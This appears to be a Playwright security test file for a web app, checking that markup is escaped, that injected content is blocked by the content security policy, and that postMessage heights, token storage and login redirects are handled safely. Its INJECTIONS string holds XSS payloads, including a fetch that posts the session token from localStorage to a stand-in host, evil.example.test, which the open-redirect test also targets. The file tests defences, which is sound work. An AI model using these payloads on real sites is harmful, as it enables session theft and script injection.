import type { Page } from '@playwright/test';
import * as z from 'zod';
import { TEST_WAIT_MS } from '../../scripts/lib/test-settings.ts';
import type { Attack } from './attack.ts';
import { MARKUP } from './planted-markup.ts';
import type { Target } from './target.ts';

const Widget = z.looseObject({ id: z.string(), slug: z.string(), customer: z.object({ id: z.string() }) });
const ViewerCustomer = z.object({ viewer: z.object({ customer: z.object({ id: z.string() }) }) });

/** Address of a widget of the trader's customer. */
async function widgetPath(target: Target, slug: string): Promise<string> {
  const { data } = await target.gateway.request('{ viewer { customer { id } } }', {}, target.trader);
  const customerId = ViewerCustomer.parse(data).viewer.customer.id;
  const widgets = z.array(Widget).parse(await target.sandbox.control.allState('widgets'));
  const widget = widgets.find((each) => each.slug === slug && each.customer.id === customerId);
  if (!widget) throw new Error(`there is no widget ${slug}`);
  return `/widget/${widget.id}`;
}

/**
 * Waits within the page, because polling from outside would evaluate text, which its policy forbids. It returns at its deadline
 * too: the outcome then shows what is missing.
 */
async function waitUntil(page: Page, condition: string): Promise<void> {
  await page.evaluate(`new Promise((done) => {
    const end = Date.now() + ${TEST_WAIT_MS};
    const poll = () => ((${condition}) || Date.now() > end ? done() : setTimeout(poll, 20));
    poll();
  })`);
}

const pwned = (page: Page): Promise<unknown> => page.evaluate('window.pwned ?? null');

/** Checks that each page shows the markup as text. Opens one page at a time, so that no page takes loading time from another. */
async function checkEscaping(target: Target, paths: readonly string[]): Promise<string> {
  const faults: string[] = [];
  for (const path of paths) {
    const { page, violations } = await target.visit(path);
    await page.getByText(MARKUP).filter({ visible: true }).first().waitFor();
    const ran = await pwned(page);
    const reported = violations();
    if (ran !== null || reported.length > 0) faults.push(`${path}: ran ${String(ran)}, ${reported.join(' ')}`);
    await page.close();
  }
  return faults.join('; ') || 'text on each, nothing ran, no report';
}

/** Injections of an attacker who can write into the page. */
const INJECTIONS = `
  window.reported = new Set();
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => window.reported.add(effectiveDirective));
  const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
  add('script', { textContent: 'window.pwned = 1' });
  add('script', { src: 'https://evil.example.test/x.js' });
  add('div', { innerHTML: '<img src="data:," onerror="window.pwned = 1">' });
  add('iframe', { src: 'https://evil.example.test/' });
  add('object', { data: 'https://evil.example.test/' });
  add('base', { href: 'https://evil.example.test/' });
  add('style', { textContent: 'body { background: url(https://evil.example.test/) }' });
  add('img', { src: 'https://evil.example.test/?stolen' });
  fetch('https://evil.example.test/', { method: 'POST', body: localStorage.getItem('sightline.session') }).catch(() => {});
  // In a timer: code evaluated by the browser's tools may use eval.
  setTimeout(() => new Function('window.pwned = 1')());
`;
/** The directives that the injections violate, in alphabetical order. */
const BLOCKED_DIRECTIVES =
  'base-uri connect-src frame-src img-src object-src script-src script-src-attr script-src-elem style-src-elem';

async function inject(target: Target): Promise<string> {
  const { page, violations } = await target.visit('/api-clients');
  await page.getByText(MARKUP).filter({ visible: true }).first().waitFor();
  await page.evaluate(`(() => { ${INJECTIONS} })()`);
  await waitUntil(page, `window.reported.size === ${BLOCKED_DIRECTIVES.split(' ').length}`);
  const ran = await pwned(page);
  const reported = violations().join(' ');
  await page.close();
  return ran === null ? reported : 'ran';
}

const WIDGET_PAGE = /\/widgets\/[^/]+\/[^/]+\/\d+$/;
const postToParent = (data: string): string => `window.parent.postMessage(${data}, '*')`;
/** Heights of the frame in order, without consecutive duplicates. */
const RECORD_HEIGHTS = `
  window.heights = [];
  new MutationObserver(() => {
    const height = document.querySelector('iframe').style.height;
    if (window.heights.at(-1) !== height) window.heights.push(height);
  }).observe(document.querySelector('iframe'), { attributes: true, attributeFilter: ['style'] });
`;

async function sendHeights(target: Target): Promise<string> {
  const slug = 'live-series';
  const message = (height: string): string => `{ type: 'widget_height', widget: '${slug}', height: ${height} }`;
  const { page } = await target.visit(await widgetPath(target, slug), async (opened) => {
    await opened.route(WIDGET_PAGE, (route) =>
      route.fulfill({ contentType: 'text/html', body: `<!doctype html><script>${postToParent(message('100'))}</script>` }),
    );
  });
  await waitUntil(page, `document.querySelector('iframe')?.style.height === '100px'`);
  await page.evaluate(RECORD_HEIGHTS);
  const frame = page.frames().find((each) => WIDGET_PAGE.test(each.url()));
  if (!frame) throw new Error('there is no widget');
  // From the page itself, and from another frame of the widget's origin.
  await page.evaluate(`window.postMessage(${message('701')}, '*')`);
  const other = `${frame.url()}9`;
  const loaded = page.waitForEvent('framenavigated', { predicate: (each) => each.url() === other });
  await page.evaluate(`void document.body.append(Object.assign(document.createElement('iframe'), { src: '${other}' }))`);
  await (await loaded).evaluate(postToParent(message('702')));
  for (const height of ["'703'", 'NaN', 'Infinity', '{}', 'null']) await frame.evaluate(postToParent(message(height)));
  await frame.evaluate(postToParent(`{ type: 'widget_height', widget: 'another', height: 704 }`));
  for (const height of ['1e9', '-5', '300']) await frame.evaluate(postToParent(message(height)));
  await waitUntil(page, `window.heights.at(-1) === '300px'`);
  const heights = z.array(z.string()).parse(await page.evaluate('window.heights'));
  await page.close();
  return heights.join(', ');
}

/** All browser storage of this site except the entries of the session. */
const READ_STORAGE = `(async () => {
  const kept = [document.cookie, JSON.stringify(sessionStorage), JSON.stringify(history.state)];
  for (const [key, value] of Object.entries(localStorage)) if (!/^sightline\\.(session|trading)/.test(key)) kept.push(key, value);
  for (const { name } of await indexedDB.databases()) {
    const database = await new Promise((resolve, reject) => {
      const opening = indexedDB.open(name);
      opening.onsuccess = () => resolve(opening.result);
      opening.onerror = () => reject(opening.error);
    });
    for (const store of database.objectStoreNames) {
      const all = await new Promise((resolve, reject) => {
        const reading = database.transaction(store).objectStore(store).getAll();
        reading.onsuccess = () => resolve(reading.result);
        reading.onerror = () => reject(reading.error);
      });
      kept.push(JSON.stringify(all));
    }
    database.close();
  }
  return { kept: kept.join('\\n'), local: JSON.stringify({ ...localStorage }) };
})()`;
const StorageContents = z.object({ kept: z.string(), local: z.string() });

async function searchForTokens(target: Target): Promise<string> {
  const { page, requested } = await target.visit('/trading');
  await page.getByText(MARKUP).filter({ visible: true }).first().waitFor();
  const { kept, local } = StorageContents.parse(await page.evaluate(READ_STORAGE));
  const tradingToken = z.string().parse(/"token\\":\\"([^"\\]+)/.exec(local)?.[1]);
  const places = { address: requested.join('\n'), storage: kept, page: await page.content() };
  const found = Object.entries(places).filter(([, text]) => text.includes(target.trader.bearer) || text.includes(tradingToken));
  await page.close();
  return found.length === 0 && local.includes(target.trader.bearer)
    ? 'in no other place'
    : found.map(([place]) => place).join(', ');
}

async function tryOpenRedirect(target: Target): Promise<string> {
  const away = encodeURIComponent('//evil.example.test/login');
  const { page } = await target.visit(`/login?next=${away}&from=${away}&redirect=${away}&returnTo=https%3A${away}`);
  await page.waitForURL((url) => !['/', '/login'].includes(url.pathname));
  const { origin, pathname } = new URL(page.url());
  await page.close();
  return origin === target.gateway.url ? pathname : origin;
}

export const PAGE_ATTACKS: readonly Attack[] = [
  {
    row: '39 page',
    what: 'markup in names of clients, teams and tournaments and in the text of a widget',
    expected: 'text on each, nothing ran, no report',
    needsBrowser: true,
    run: async (target) => checkEscaping(target, ['/api-clients', await widgetPath(target, 'pre-series'), '/trading']),
  },
  {
    row: '40 page',
    what: 'scripts, handlers, frames, plug-ins, styles, images and requests injected into the page',
    expected: BLOCKED_DIRECTIVES,
    needsBrowser: true,
    run: inject,
  },
  {
    row: '41 page',
    what: 'heights from the page itself, another frame and another widget; texts, NaN, 1e9 and -5 from the right one',
    expected: '10000px, 0px, 300px',
    needsBrowser: true,
    run: sendHeights,
  },
  {
    row: '42 page',
    what: 'a search for bearer and trading token in URLs, the page, cookies, databases and other storage',
    expected: 'in no other place',
    needsBrowser: true,
    run: searchForTokens,
  },
  {
    row: '43 page',
    what: 'a sign-in page with a return path to another site',
    expected: '/api-clients',
    needsBrowser: true,
    run: tryOpenRedirect,
  },
];
